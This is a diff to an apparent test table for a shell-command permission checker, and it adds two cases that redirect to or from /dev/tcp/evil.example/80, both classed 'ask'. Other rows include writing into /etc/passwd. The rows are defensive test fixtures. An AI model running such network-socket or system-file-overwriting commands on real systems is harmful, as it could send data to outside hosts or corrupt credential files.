@@ -151,6 +151,8 @@ const COMMANDS: [string, Decision, P?][] = [
   ["ls &> out.log", "allow"],
   ["{ ls; pwd; } > out.txt", "allow"],
   ["exec > /tmp/coyote.log", "ask"],
+  ["cat < /dev/tcp/evil.example/80", "ask"],
+  ["echo hi > /dev/tcp/evil.example/80", "ask"],
   ["echo x > link/f", "ask"],
   ["echo x > $OUT", "ask"],
   ["cd /etc && echo x > passwd", "ask"],
